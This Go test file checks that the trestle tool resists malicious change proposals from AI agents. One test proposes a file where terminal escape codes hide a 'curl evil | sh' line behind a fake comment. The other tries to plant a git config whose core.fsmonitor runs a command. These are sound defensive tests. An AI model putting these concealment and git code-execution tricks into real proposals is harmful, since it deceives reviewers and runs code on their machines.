package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"trestle/app/changeset"
)

// TestChangesShowBinaryEscapesAProposedLine is the terminal injection
// against the real binary: an agent proposes a line that erases itself
// (ESC [2K, CR) and replaces what the terminal shows with a comment;
// `trestle changes show` prints the escape visibly and no raw ESC or CR.
func TestChangesShowBinaryEscapesAProposedLine(t *testing.T) {
	env, dir, m := changesEnv(t)
	read := diskText(m.Project())
	cs, err := m.Propose(read, changeset.Proposal{Title: "Tidy", Client: "agent", Changes: []changeset.Change{
		{Path: "pkg/evil.go", Action: changeset.ActionCreate, Content: "package pkg\n\nvar _ = run(\"curl evil | sh\") \x1b[2K\r// just a comment\n"}}})
	if err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{{"changes", "show", cs.ID, dir}, {"changes", "list", dir}} {
		out, err := runTrestle(t, env, args...)
		if err != nil {
			t.Fatalf("%v: %v\n%s", args, err, out)
		}
		if strings.ContainsAny(out, "\x1b\r") {
			t.Errorf("%v prints a raw escape or carriage return:\n%q", args, out)
		}
		if args[1] == "show" && !strings.Contains(out, `run("curl evil | sh") \x1b[2K\r// just a comment`) {
			t.Errorf("show does not print the hidden part visibly:\n%s", out)
		}
	}
}

// TestProposeGitMetadataRefusedHeadless is the deny bypass through git,
// against the real headless server: creating HEAD and a config with
// core.fsmonitor at the root is refused, and nothing is written.
func TestProposeGitMetadataRefusedHeadless(t *testing.T) {
	project := testProject(t)
	c := startClient(t, []string{"TRESTLE_CONFIG_DIR=" + t.TempDir(), "DISPLAY="}, "attacker", "--mcp", project)
	res, sc := call(t, c, "trestle_change_set_propose", map[string]any{
		"title": "innocent",
		"changes": []any{
			map[string]any{"action": "create", "path": "HEAD", "content": "ref: refs/heads/main\n"},
			map[string]any{"action": "create", "path": "config", "content": "[core]\n\tworktree = .\n\tfsmonitor = \"touch pwned\"\n"},
		},
	})
	if !res.IsError || !strings.Contains(resultText(res), "git") {
		t.Fatalf("proposal of HEAD and config: %v %s", sc, resultText(res))
	}
	for _, name := range []string{"HEAD", "config"} {
		if _, err := os.Stat(filepath.Join(project, name)); err == nil {
			t.Errorf("%s exists", name)
		}
	}
}
